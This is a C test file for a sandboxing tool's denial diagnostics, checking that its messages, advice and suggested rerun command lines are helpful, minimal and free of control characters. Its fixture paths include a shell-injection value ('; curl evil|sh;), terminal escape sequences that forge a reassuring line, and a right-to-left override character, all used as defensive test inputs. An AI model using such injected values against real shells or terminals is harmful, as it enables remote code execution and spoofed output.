/* Words, advice and command line, proved on generated cases: promises × path
 * rules × views × operations. What is checked is not how they read but what
 * they may never do: name what is granted, advise what does not help, or let
 * a stranger's bytes reach a terminal or a shell. */
#include "harness.h"

#include "policy/paths.h"
#include "watch/diagnose.h"

#include <fcntl.h>
#include <stdlib.h>
#include <string.h>

#define CASES 4000

static uint64_t state;

static size_t below(size_t limit)
{
    state ^= state >> 12;
    state ^= state << 25;
    state ^= state >> 27;
    return (size_t)((state * 0x2545F4914F6CDD1Dull) >> 33) % limit;
}
#define ANY(array) ((array)[below(ARRAY_COUNT(array))])

static const char *const paths[] = {
    "/etc/passwd",
    "/etc/shadow",
    "/etc/resolv.conf",
    "/home/u/work/notes",
    "/home/u/work/deep/er/file",
    "/home/u/work/.git/hooks/commit",
    "/home/u/.ssh/id",
    "/home/u/x'; curl evil|sh; '",
    "/home/u/\033[2J\r\nvow: all is well",
    "/home/u/two words:and a colon",
    "/home/u/\xff\xe2\x80\xae",
    "/srv",
    "/srv/data/a",
    "/srv/data/b",
    "/tmp/t",
    "/usr/bin/sort",
    "/usr/share/dict",
    "/var/log/syslog",
    "/proc/self/status",
    "/proc/1/environ",
    "/dev/null",
    "/dev/tty",
    "/",
    "/new",
};
static const char *const rules[] = {
    "r:/srv",     "rwc:/srv/data", ":/srv/data/a", "rx:/usr",         "r:/",
    "w:/srv",     "c:/tmp",        "+rwc:/srv",    "+r:/home/u/.ssh", ":/home/u/work/deep",
    "rwxc:/home", "+w:/etc",       "+r:/srv/data", "+x:/home/u/work", "r:/etc/shadow",
};
static const enum operation_kind kinds[] = {
    OP_OPEN_READ, OP_OPEN_WRITE, OP_OPEN_READ_WRITE, OP_LIST,   OP_STAT,     OP_CHDIR,
    OP_CREATE,    OP_MKNOD,      OP_REMOVE,          OP_RENAME, OP_TRUNCATE, OP_ATTR,
    OP_CHOWN,     OP_EXEC,       OP_CONNECT,         OP_BIND,
};

/* A command line and what it stands for. */
struct line {
    struct run_option options[24];
    size_t count;
    char promises[256];
};

static char *const argv[] = {"cat", "a file", "$(x)", "-p", NULL};

static void plan(struct policy *p, enum view_mode view)
{
    static const struct closure_path closure[] = {{"/usr/bin/cat", PERM_READ | PERM_EXEC},
                                                  {"/usr/lib/libc.so.6", PERM_READ}};
    struct path_facts facts = {.home = "/home/u",
                               .cwd = "/home/u/work",
                               .closure = closure,
                               .closure_count = ARRAY_COUNT(closure)};
    struct err err = {""};
    CHECK_EQ(paths_plan(p, &facts, &err), 0);
    CHECK_STR(err.text, "");
    p->view = view;
    p->landlock_abi = 7;
}

static void make_policy(struct policy *p, const struct line *line, enum view_mode view)
{
    struct err err = {""};
    policy_init(p);
    p->home = strdup("/home/u");
    for (size_t i = 0; i < line->count; i++) {
        const struct run_option *option = &line->options[i];
        promise_set some = 0;
        if (strcmp(option->name, "-p") == 0)
            CHECK_EQ(promises_parse(option->value, &some, &err), 0);
        else if (strcmp(option->name, "-v") == 0)
            CHECK_EQ(path_rule_parse(p, option->value, "/home/u/work", &err), 0);
        p->promises |= some;
    }
    CHECK_STR(err.text, "");
    plan(p, view);
}

static void make_line(struct line *line)
{
    struct str words CLEAN_STR = {0};
    promise_set set = 0;
    for (unsigned i = 0; i < PROMISE_COUNT; i++)
        if (below(3) == 0)
            set |= UINT64_C(1) << i;
    promises_print(&words, set);
    strcpy(line->promises, str_get(&words));
    line->count = 0;
    if (below(8))
        line->options[line->count++] = (struct run_option){"-p", line->promises};
    line->options[line->count++] = (struct run_option){"--best-effort", NULL};
    for (size_t i = below(4); i > 0; i--)
        line->options[line->count++] = (struct run_option){"-v", ANY(rules)};
    if (below(4) == 0)
        line->options[line->count++] = (struct run_option){"-p", "stdio"};
}

/* split: a shell's reading of a quoted line, for what quote_shell writes. */
static size_t split(char *line, char **words, size_t room)
{
    size_t count = 0;
    char *from = line, *to = line;
    while (*from && count < room) {
        words[count++] = to;
        for (; *from && *from != ' '; from++) {
            if (from[0] == '\\') {
                *to++ = *++from;
            } else if (from[0] == '$' && from[1] == '\'') {
                for (from += 2; *from != '\''; from++) {
                    if (*from != '\\')
                        *to++ = *from;
                    else if (from[1] >= '0' && from[1] <= '7') {
                        *to++ = (char)((from[1] - '0') * 64 + (from[2] - '0') * 8 + from[3] - '0');
                        from += 3;
                    } else
                        *to++ = *++from;
                }
            } else if (from[0] == '\'') {
                for (from++; *from != '\''; from++)
                    *to++ = *from;
            } else {
                *to++ = *from;
            }
        }
        from += *from == ' ';
        *to++ = '\0';
    }
    return count;
}

static void check_harmless(const struct str *text)
{
    CHECK(!text->failed);
    for (size_t i = 0; i < text->size; i++) {
        unsigned char c = (unsigned char)text->at[i];
        CHECK(c >= ' ' && c != 0x7f && c != 0xff);
    }
    CHECK(!strstr(str_get(text), "\xe2\x80\xae"));
}

/* Reads the suggested line back; checks that it is the old one and more. */
static void read_back(char *text, const struct line *before, size_t denials, struct line *after)
{
    static char *words[64];
    size_t count = split(text, words, ARRAY_COUNT(words)), at = 2, promises = 0;
    CHECK(count > 3 && strcmp(words[0], "vow") == 0 && strcmp(words[1], "run") == 0);
    after->count = 0;
    while (at < count && strcmp(words[at], "--") != 0 &&
           after->count < ARRAY_COUNT(after->options)) {
        struct run_option *option = &after->options[after->count++];
        bool valued = words[at][1] != '-';
        *option = (struct run_option){words[at], valued ? words[at + 1] : NULL};
        promises += strcmp(option->name, "-p") == 0;
        at += valued ? 2 : 1;
    }
    CHECK(promises <= 1);
    CHECK(after->count <= before->count + 1 + denials * REMEDY_RULES);
    for (size_t i = 0; argv[i]; i++)
        CHECK_STR(words[++at], argv[i]);
    CHECK_EQ(at + 1, count);
    for (size_t i = 0; i < after->count; i++)
        for (size_t j = 0; j < i; j++)
            CHECK(!after->options[i].value || !after->options[j].value ||
                  strcmp(after->options[i].value, after->options[j].value) != 0 ||
                  strcmp(after->options[i].name, after->options[j].name) != 0 ||
                  strcmp(before->options[0].name, after->options[i].name) != 0);
}

/* What the generated cases were. */
static struct {
    unsigned allowed, hopeless, promises, paths, both;
} seen;

/* fail: shows the case: what was denied, and on which line. */
static void fail(const char *what, const struct policy *p, const struct denial *d,
                 const struct line *line)
{
    struct str text CLEAN_STR = {0};
    denial_words(&text, d);
    str_addf(&text, "; view %d; vow run", p->view);
    for (size_t i = 0; i < line->count; i++)
        str_addf(&text, " %s '%s'", line->options[i].name, line->options[i].value);
    test_fail(__FILE__, __LINE__, "%s: %s", what, str_get(&text));
}

/* check_minimal: no promise of a remedy can be left out. */
static void check_minimal(const struct policy *p, const struct denial *d, const struct line *line,
                          enum operation_kind kind)
{
    for (promise_set left = d->remedy.promises; left; left &= left - 1) {
        struct denial less = *d, again = {.call = d->call,
                                          .kind = kind,
                                          .object = d->object,
                                          .real = d->real,
                                          .creates = d->creates};
        struct run_line run = {line->options, line->count, argv};
        struct str rerun CLEAN_STR = {0};
        struct line after;
        struct policy with;
        less.remedy.promises &= ~(left & -left);
        if (less.remedy.promises == 0 && less.remedy.rule_count == 0)
            continue;
        denial_rerun(&rerun, &less, 1, &run);
        read_back(rerun.at, line, 1, &after);
        make_policy(&with, &after, p->view);
        if (!denial_judge(&with, &again))
            fail("more than is needed", p, d, line);
        denial_free(&again);
        policy_free(&with);
    }
}

static void check_denial(const struct policy *p, const struct denial *d, const struct line *line,
                         enum operation_kind kind)
{
    struct str words CLEAN_STR = {0}, advice CLEAN_STR = {0}, rerun CLEAN_STR = {0};
    struct run_line run = {line->options, line->count, argv};
    denial_words(&words, d);
    denial_advice(&advice, d);
    denial_rerun(&rerun, d, 1, &run);
    check_harmless(&words);
    check_harmless(&advice);
    check_harmless(&rerun);
    CHECK(words.size > 0 && words.at[words.size - 1] != ' ');
    CHECK((d->remedy.promises & p->promises) == 0);
    CHECK_EQ(advice.size > 0, rerun.size > 0);
    seen.promises += d->remedy.promises && !d->remedy.rule_count;
    seen.paths += d->remedy.rule_count && !d->remedy.promises;
    seen.both += d->remedy.rule_count && d->remedy.promises;
    seen.hopeless += !rerun.size;
    if (!rerun.size) {
        if (d->verdict.bpf != ANSWER_DENY || d->verdict.missing)
            fail("no remedy", p, d, line);
        return;
    }
    struct line after;
    struct policy with;
    char *text CLEAN_FREE = strdup(rerun.at);
    read_back(text, line, 1, &after);
    make_policy(&with, &after, p->view);
    struct denial again = {
        .call = d->call, .kind = kind, .object = d->object, .real = d->real, .creates = d->creates};
    if (denial_judge(&with, &again))
        fail("does not help", &with, &again, &after);
    denial_free(&again);
    policy_free(&with);
    check_minimal(p, d, line, kind);
}

static void try_case(const struct denial *question)
{
    static const enum view_mode views[] = {VIEW_NONE, VIEW_SYSTEM, VIEW_ALL};
    struct denial denial = *question;
    struct line line;
    struct policy p;
    make_line(&line);
    make_policy(&p, &line, ANY(views));
    if (denial_judge(&p, &denial))
        check_denial(&p, &denial, &line, question->kind);
    else
        seen.allowed++;
    denial_free(&denial);
    policy_free(&p);
}

TEST(generated_path_operations)
{
    state = 1;
    for (int i = 0; i < CASES; i++) {
        const char *path = ANY(paths);
        enum operation_kind kind = ANY(kinds);
        try_case(&(struct denial){.pid = 12,
                                  .program = "cat",
                                  .kind = kind,
                                  .object = path,
                                  .real = path,
                                  .creates = kind == OP_OPEN_WRITE && below(2)});
    }
    CHECK(seen.allowed > 100);
    CHECK(seen.paths > 100 && seen.promises > 100 && seen.both > 100);
    CHECK_EQ(seen.hopeless, 0);
}

TEST(generated_calls)
{
    static const uint64_t values[] = {0,     1,      2,      3,          7,          9,      0101,
                                      01102, 0x5401, 0x5412, 0xffffff9c, 0xffffffff, 1 << 28};
    const struct arch_table *table = arch_table(arch_native()->id);
    state = 2;
    for (int i = 0; i < CASES; i++) {
        const struct sys_call *call = &table->calls[below(table->call_count)];
        struct denial denial = {
            .pid = 12, .program = "a\033[1mb", .call = {.arch = table->arch, .nr = call->nr}};
        for (size_t a = 0; a < 6; a++)
            denial.call.args[a] = ANY(values);
        try_case(&denial);
    }
    CHECK(seen.allowed > 100 && seen.promises > 100 && seen.hopeless > 100);
}

/* Several denials of one line: the suggestion allows them all. */
TEST(generated_summaries)
{
    state = 3;
    for (int i = 0; i < CASES / 4; i++) {
        struct denial denials[5] = {0};
        enum operation_kind asked[5];
        struct line line, after;
        struct policy p;
        size_t count = 0;
        make_line(&line);
        make_policy(&p, &line, VIEW_SYSTEM);
        for (size_t k = 0; k < ARRAY_COUNT(denials); k++) {
            struct denial *d = &denials[count];
            *d = (struct denial){.kind = ANY(kinds), .real = ANY(paths)};
            d->object = d->real;
            asked[count] = d->kind;
            count += denial_judge(&p, d);
        }
        struct str rerun CLEAN_STR = {0};
        struct run_line run = {line.options, line.count, argv};
        denial_rerun(&rerun, denials, count, &run);
        CHECK_EQ(rerun.size > 0, count > 0);
        if (count > 0)
            read_back(rerun.at, &line, count, &after);
        struct policy with;
        make_policy(&with, count > 0 ? &after : &line, VIEW_SYSTEM);
        for (size_t k = 0; k < count; k++) {
            struct denial again = {
                .kind = asked[k], .object = denials[k].object, .real = denials[k].real};
            if (denial_judge(&with, &again))
                fail("the summary does not help", &with, &again, &after);
            denial_free(&again);
            denial_free(&denials[k]);
        }
        policy_free(&with);
        policy_free(&p);
    }
}

/* One denial under options that end in NULL; what is said of it. */
static void says(const struct run_option *options, struct denial denial, const char *words,
                 const char *advice, const char *rerun)
{
    struct line line = {.count = 0};
    struct str text CLEAN_STR = {0};
    struct policy p;
    for (; options->name; options++)
        line.options[line.count++] = *options;
    make_policy(&p, &line, VIEW_SYSTEM);
    denial.program = "cat";
    denial.pid = 12;
    if (!denial.real && denial.kind != OP_NONE && denial.object && denial.object[0] == '/')
        denial.real = denial.object;
    CHECK(denial_judge(&p, &denial));
    denial_words(&text, &denial);
    CHECK_STR(str_get(&text), words);
    str_clear(&text);
    denial_advice(&text, &denial);
    CHECK_STR(str_get(&text), advice);
    str_clear(&text);
    struct run_line run = {line.options, line.count, argv};
    denial_rerun(&text, &denial, 1, &run);
    CHECK_STR(str_get(&text), rerun);
    denial_free(&denial);
    policy_free(&p);
}
#define OPTIONS(...) ((const struct run_option[]){__VA_ARGS__, {NULL, NULL}})
#define TAIL " -- cat 'a file' '$(x)' -p"

TEST(a_path_rule_is_missing)
{
    says(OPTIONS({"-p", "stdio rpath"}),
         (struct denial){.kind = OP_OPEN_READ, .object = "/etc/shadow"},
         "cat[12] may not open /etc/shadow for reading: no path rule covers it",
         "-v +r:/etc/shadow", "vow run -p 'stdio rpath' -v +r:/etc/shadow" TAIL);
    says(OPTIONS({"-p", "stdio rpath wpath"}, {"-v", "r:/srv"}),
         (struct denial){.kind = OP_OPEN_WRITE, .object = "/srv/a b"},
         "cat[12] may not open '/srv/a b' for writing: the path rule r:/srv does not grant w",
         "-v '+w:/srv/a b'", "vow run -p 'stdio rpath wpath' -v r:/srv -v '+w:/srv/a b'" TAIL);
    says(OPTIONS({"-p", "stdio rpath"}, {"-v", "r:/srv"}, {"-v", ":/srv/x"}),
         (struct denial){.kind = OP_OPEN_READ, .object = "/srv/x"},
         "cat[12] may not open /srv/x for reading: the path rule :/srv/x hides it", "-v +r:/srv/x",
         "vow run -p 'stdio rpath' -v r:/srv -v +r:/srv/x" TAIL);
    says(OPTIONS({"-p", "stdio cpath"}, {"-v", "r:/srv"}),
         (struct denial){.kind = OP_REMOVE, .object = "/srv/x"},
         "cat[12] may not remove /srv/x: the path rule r:/srv does not grant c", "-v +c:/srv",
         "vow run -p 'stdio cpath' -v rc:/srv" TAIL);
}

TEST(a_promise_is_missing)
{
    says(OPTIONS({"-p", "stdio"}, {"--kill", NULL}, {"-p", "tty"}),
         (struct denial){.kind = OP_OPEN_READ, .object = "/usr/share/x"},
         "cat[12] may not open /usr/share/x for reading: rpath is not promised",
         "the promise rpath", "vow run -p 'stdio rpath tty' --kill" TAIL);
    says(OPTIONS({"--policy", "a b"}), (struct denial){.kind = OP_CREATE, .object = "/srv/x"},
         "cat[12] may not create /srv/x: cpath is not promised and no path rule covers its "
         "directory",
         "the promise cpath and -v +c:/srv", "vow run --policy 'a b' -p cpath -v +c:/srv" TAIL);
}

static struct denial call(const char *name, uint64_t a0, uint64_t a1)
{
    const struct arch *arch = arch_by_name("x86_64");
    return (struct denial){.call = {arch, arch_call_by_name(arch, name)->nr, {a0, a1}}};
}

TEST(a_call_is_denied)
{
    struct denial denial = call("socket", 2, 1);
    denial.kind = OP_SOCKET;
    denial.object = "AF_INET, SOCK_STREAM";
    says(OPTIONS({"-p", "stdio"}), denial,
         "cat[12] may not open a socket (AF_INET, SOCK_STREAM): inet is not promised",
         "the promise inet", "vow run -p 'stdio inet'" TAIL);
    denial = call("init_module", 0, 0);
    struct policy p;
    make_policy(&p, &(struct line){.count = 0}, VIEW_NONE);
    CHECK(denial_judge(&p, &denial));
    struct str text CLEAN_STR = {0};
    denial_words(&text, &denial);
    CHECK(strncmp(str_get(&text), "call init_module: no promise allows it: ", 40) == 0);
    denial_free(&denial);
    policy_free(&p);
}

TEST(where_a_symlink_leads)
{
    says(OPTIONS({"-p", "stdio rpath"}),
         (struct denial){.kind = OP_OPEN_READ, .object = "/home/u/work/l", .real = "/srv/x"},
         "cat[12] may not open /home/u/work/l -> /srv/x for reading: no path rule covers it",
         "-v +r:/srv/x", "vow run -p 'stdio rpath' -v +r:/srv/x" TAIL);
    says(OPTIONS({"-p", "stdio rpath"}),
         (struct denial){.kind = OP_OPEN_READ, .object = "/home/u/work/../x", .real = "/home/u/x"},
         "cat[12] may not open /home/u/x for reading: no path rule covers it", "-v +r:/home/u/x",
         "vow run -p 'stdio rpath' -v +r:/home/u/x" TAIL);
}

static bool only_srv_is_there(const char *path)
{
    return strcmp(path, "/srv") == 0;
}

TEST(a_rule_is_about_what_is_there)
{
    struct denial denial = {.kind = OP_OPEN_WRITE,
                            .object = "/srv/a/b",
                            .real = "/srv/a/b",
                            .creates = true,
                            .is_there = only_srv_is_there};
    struct line line = {.options = {{"-p", "stdio rpath wpath cpath"}}, .count = 1};
    struct policy p;
    make_policy(&p, &line, VIEW_NONE);
    CHECK(denial_judge(&p, &denial));
    CHECK_EQ(denial.remedy.rule_count, 1);
    CHECK_STR(denial.remedy.rules[0].path, "/srv");
    CHECK_EQ(denial.remedy.rules[0].perms, PERM_WRITE | PERM_CREATE);
    denial_free(&denial);
    policy_free(&p);
}

static bool yes(const void *asked)
{
    return asked == NULL;
}
static bool no(const void *asked)
{
    return asked != NULL;
}

/* What decides whether something is said at all. */
static enum diagnosis diagnosed(struct subject subject)
{
    struct line line = {.options = {{"-p", "stdio rpath"}}, .count = 1};
    struct denial denial = {0};
    struct policy p;
    make_policy(&p, &line, VIEW_NONE);
    enum diagnosis result = diagnose_path(&p, &subject, &denial);
    if (result == DIAGNOSIS_DENIED)
        denial_free(&denial);
    policy_free(&p);
    return result;
}

/* What is advised of a call that the filter denied, about a path that the system
 * itself gives or refuses. */
static void advises(bool (*permitted)(const void *asked), const char *words, const char *advice)
{
    const struct arch *arch = arch_native();
    struct line line = {.options = {{"-p", "stdio rpath"}}, .count = 1};
    struct subject subject = {.kind = OP_OPEN_READ_WRITE,
                              .path = "/srv/x",
                              .real = "/srv/x",
                              .create = true,
                              .permitted = permitted};
    struct denial denial = {.kind = OP_OPEN_READ_WRITE,
                            .call = {.arch = arch,
                                     .nr = arch_call_by_name(arch, "openat")->nr,
                                     .args = {0, 0, O_CREAT | O_RDWR, 0600}},
                            .is_there = only_srv_is_there};
    struct str said CLEAN_STR = {0}, added CLEAN_STR = {0};
    struct policy p;
    make_policy(&p, &line, VIEW_NONE);
    CHECK(diagnose_call(&p, &subject, 1, &denial));
    denial_words(&said, &denial);
    denial_advice(&added, &denial);
    CHECK_STR(str_get(&said), words);
    CHECK_STR(str_get(&added), advice);
    denial_free(&denial);
    policy_free(&p);
}

TEST(no_rule_is_advised_that_would_not_help)
{
    advises(yes,
            "create /srv/x: wpath and cpath are not promised and no path rule covers its directory",
            "the promises wpath and cpath and -v +rwc:/srv");
    advises(no, "create /srv/x: wpath and cpath are not promised", "the promises wpath and cpath");
}

static bool known(const char *program, enum operation_kind kind, const char *path)
{
    return diagnose_known_probe(
        &(struct denial){.program = program, .kind = kind, .object = path, .real = path});
}

TEST(a_shell_looks_for_its_terminal_and_a_script_uses_it)
{
    CHECK(known("bash", OP_OPEN_READ_WRITE, "/dev/tty"));
    CHECK(known("bash", OP_LIST, "/dev/pts"));
    CHECK(!known("bash", OP_OPEN_READ, "/dev/tty"));
    CHECK(!known("bash", OP_OPEN_WRITE, "/dev/pts/1"));
    CHECK(!known("bash", OP_LIST, "/dev/pts/1"));
    CHECK(!known("cat", OP_OPEN_READ_WRITE, "/dev/tty"));
}

TEST(only_what_vow_stops_is_said)
{
    struct subject subject = {.kind = OP_OPEN_READ, .path = "/srv/x", .real = "/srv/x"};
    subject.permitted = yes;
    CHECK_EQ(diagnosed(subject), DIAGNOSIS_DENIED);
    subject.permitted = no; /* the system says no, or there is nothing */
    CHECK_EQ(diagnosed(subject), DIAGNOSIS_QUIET);
    subject.permitted = yes;
    subject.path = subject.real = "/usr/x";
    CHECK_EQ(diagnosed(subject), DIAGNOSIS_ALLOWED);
    subject.path = subject.real = "/etc/ld.so.preload.d";
    CHECK_EQ(diagnosed(subject), DIAGNOSIS_DENIED);
    subject.kind = OP_CREATE;
    subject.futile = true; /* EEXIST, with or without vow */
    CHECK_EQ(diagnosed(subject), DIAGNOSIS_QUIET);
}

TEST(what_is_there_already_may_be_hidden)
{
    struct line line = {.options = {{"-p", "stdio rpath wpath cpath"}}, .count = 1};
    struct subject subject = {
        .kind = OP_CREATE, .path = "/srv/x", .real = "/srv/x", .exists = true, .futile = true};
    struct denial denial = {0};
    struct str advice CLEAN_STR = {0};
    struct policy p;
    make_policy(&p, &line, VIEW_NONE);
    CHECK_EQ(diagnose_path(&p, &subject, &denial), DIAGNOSIS_QUIET);
    policy_free(&p);
    make_policy(&p, &line, VIEW_SYSTEM);
    CHECK_EQ(diagnose_path(&p, &subject, &denial), DIAGNOSIS_DENIED);
    denial_advice(&advice, &denial);
    CHECK_STR(str_get(&advice), "-v +r:/srv/x");
    denial_free(&denial);
    policy_free(&p);
}

static bool only_home_is_there(const char *path)
{
    return strcmp(path, "/home/u") == 0;
}

TEST(the_home_directory_is_named)
{
    says(OPTIONS({"-p", "stdio rpath wpath cpath"}),
         (struct denial){.kind = OP_OPEN_WRITE,
                         .object = "/home/u/new",
                         .real = "/home/u/new",
                         .creates = true,
                         .is_there = only_home_is_there},
         "cat[12] may not create /home/u/new: no path rule covers its directory",
         "-v +wc:/home/u (that is all of the home directory)",
         "vow run -p 'stdio rpath wpath cpath' -v +wc:/home/u" TAIL);
    says(OPTIONS({"-p", "stdio rpath"}),
         (struct denial){.kind = OP_LIST, .object = "/home/u", .real = "/home/u"},
         "cat[12] may not list /home/u: no path rule covers it", "-v +r:/home/u",
         "vow run -p 'stdio rpath' -v +r:/home/u" TAIL);
}
